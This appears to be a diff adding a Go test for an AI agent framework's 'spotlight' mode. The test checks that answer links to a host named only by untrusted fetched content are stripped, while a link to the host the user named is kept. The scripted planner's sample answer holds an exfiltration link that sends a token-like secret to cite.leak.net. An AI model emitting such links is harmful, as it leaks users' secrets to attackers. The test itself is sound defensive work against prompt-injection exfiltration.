@@ -396,3 +396,17 @@ func TestSpotlightTaintSurvivesAResume(t *testing.T) {
 		t.Errorf("asked %v, sent %v", w.asked, w.sent)
 	}
 }
+
+// In spotlight mode, an answer's link that carries data to a host only the
+// untrusted text named is removed; a host the user named is kept.
+func TestSpotlightLinkExfiltration(t *testing.T) {
+	planner := scripted.New(
+		scripted.Call("web_fetch", `{"url":"https://news.example/a"}`),
+		scripted.Say("Sources: [a](https://cite.leak.net/?t=sk-9f8e7d6c5b4a) and [b](https://docs.mine.example/page?id=42)"),
+	)
+	w := newWorld(t, ifc.Spotlight, nil, planner, scripted.New())
+	p := w.run(t, "summarise the article, citing docs.mine.example")
+	if strings.Contains(p.Result, "cite.leak.net/?t=") || !strings.Contains(p.Result, "https://docs.mine.example/page?id=42") {
+		t.Errorf("answer %q", p.Result)
+	}
+}
